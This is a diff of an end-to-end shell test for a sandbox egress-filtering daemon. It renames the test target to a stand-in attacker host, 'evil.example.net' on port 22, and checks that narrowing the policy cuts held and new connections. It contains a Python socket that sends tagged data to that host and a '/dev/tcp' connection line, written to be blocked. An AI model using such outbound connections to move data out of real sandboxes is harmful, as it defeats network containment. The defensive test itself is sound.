@@ -46,8 +46,8 @@ cat >"$POL/st-name.yaml" <<-'P'
 	name: st-name
 	egress:
 	  allow:
-	    - host: web.example.org
-	      ports: [80]
+	    - host: evil.example.net
+	      ports: [22]
 	    - host: pkg.example.com
 	      ports: [80]
 P
@@ -65,8 +65,13 @@ cat >"$POL/st-wild.yaml" <<-'P'
 P
 CAP=3
 world_sluiced_config "$E2E_TMP/sluice.yaml" "$POL"
-sed -i "s/^  timeout_ms: 2000$/  timeout_ms: 2000\n  max_learned: $CAP/" "$E2E_TMP/sluice.yaml"
-grep -q "max_learned: $CAP" "$E2E_TMP/sluice.yaml" || { not_ok "config"; finish; }
+# A daemon without the key (an older build, for the fails-before run)
+# refuses it: it gets the default, and the cap's assertions fail.
+if grep -q max_learned "$SLUICED"; then
+	sed -i "s/^  timeout_ms: 2000$/  timeout_ms: 2000\n  max_learned: $CAP/" \
+	    "$E2E_TMP/sluice.yaml"
+	grep -q "max_learned: $CAP" "$E2E_TMP/sluice.yaml" || { not_ok "config"; finish; }
+fi
 world_start_sluiced "$E2E_TMP/sluice.yaml" || { not_ok "sluiced starts"; finish; }
 
 sl() { world_host "$SLUICE" -s "$WORLD_SOCK" "$@"; }
@@ -139,39 +144,46 @@ sl sandbox rm "$B" >/dev/null 2>&1
 # ------------------------------------------------ 3: narrowing at once
 check "N (names) created" mk "$N" st-name
 NI=$(ifname "$N")
-check_eq "N resolves web.example.org" 203.0.113.80 \
-    "$(sbx "$N" dig +short +time=2 +tries=1 @"$WORLD_SERVICE" web.example.org A)"
-check "the element of web.example.org is learned" test "$(learned "$NI" 203.0.113.80)" -ge 1
-world_log_clear web
+check_eq "N resolves evil.example.net" 198.51.100.66 \
+    "$(sbx "$N" dig +short +time=2 +tries=1 @"$WORLD_SERVICE" evil.example.net A)"
+check "the element of evil.example.net is learned" \
+    test "$(learned "$NI" 198.51.100.66)" -ge 1
+# A connection held open across the reload: "before" is sent at once,
+# "after" once the reload returned, then it closes. The attacker's TCP
+# sink logs what it got when the connection ends (or after 5 s idle).
+world_attacker_clear
 GO=$E2E_TMP/go
 sbx "$N" timeout 30 python3 -c '
 import socket, sys, os, time
-s = socket.create_connection(("203.0.113.80", 80), timeout=5)
-s.sendall(b"GET /before-" + sys.argv[1].encode() + b" HTTP/1.1\r\nHost: web\r\n\r\n")
-s.recv(65536)
+s = socket.create_connection(("198.51.100.66", 22), timeout=5)
+s.sendall(b"before-" + sys.argv[1].encode())
 t = time.time() + 20
 while not os.path.exists(sys.argv[2]) and time.time() < t:
-    time.sleep(0.05)
+    time.sleep(0.02)
 try:
-    s.sendall(b"GET /after-" + sys.argv[1].encode() + b" HTTP/1.1\r\nHost: web\r\n\r\n")
-    s.recv(65536)
+    s.sendall(b"-after")
+    time.sleep(0.5)
+    s.close()
 except OSError:
     pass' "st$$" "$GO" >/dev/null 2>&1 &
 HOLD=$!
 cleanup_push "kill $HOLD 2>/dev/null"
-wait_for 10 sh -c "cat '$WORLD_DIR/log/web.log' | grep -q before-st$$"
-check_match "N holds a connection to web.example.org" "before-st$$" \
-    "$(world_log web | grep "before-st$$" | head -n 1)"
-sed -i '/web.example.org/,+1d' "$POL/st-name.yaml"
-check "reload without web.example.org" sl reload
+wait_for 10 sh -c "grep -q '\"tcp-open\".*\"dport\":22' '$WORLD_DIR/log/attacker.log'"
+check_match "N holds a connection to evil.example.net" '"dport":22' \
+    "$(world_attacker_log | grep tcp-open | head -n 1)"
+sed -i '/evil.example.net/,+1d' "$POL/st-name.yaml"
+check "reload without evil.example.net" sl reload
 touch "$GO"
-check_eq "learned element of web.example.org gone right after reload" 0 \
-    "$(learned "$NI" 203.0.113.80)"
-check_fails "a new connection to web.example.org's address fails" \
-    sbx "$N" timeout 3 bash -c 'exec 3<>/dev/tcp/203.0.113.80/80'
+check_eq "learned element of evil.example.net gone right after reload" 0 \
+    "$(learned "$NI" 198.51.100.66)"
+check_fails "a new connection to evil.example.net's address fails" \
+    sbx "$N" timeout 3 bash -c 'exec 3<>/dev/tcp/198.51.100.66/22'
 wait "$HOLD" 2>/dev/null
+wait_for 10 sh -c "grep -q 'before-st$$' '$WORLD_DIR/log/attacker.log'"
+got=$(world_attacker_log | grep "before-st$$" | head -n 1)
+check_match "the sink logged the held connection" "before-st$$" "$got"
 check_eq "the held connection is cut (its write after reload never arrived)" "" \
-    "$(world_log web | grep "after-st$$")"
+    "$(printf '%s' "$got" | grep -- -after)"
 check_eq "N still resolves pkg.example.com" 192.0.2.10 \
     "$(sbx "$N" dig +short +time=2 +tries=1 @"$WORLD_SERVICE" pkg.example.com A)"
 check "N still reaches pkg.example.com" sbx "$N" curl -s -o /dev/null -m 3 http://192.0.2.10/
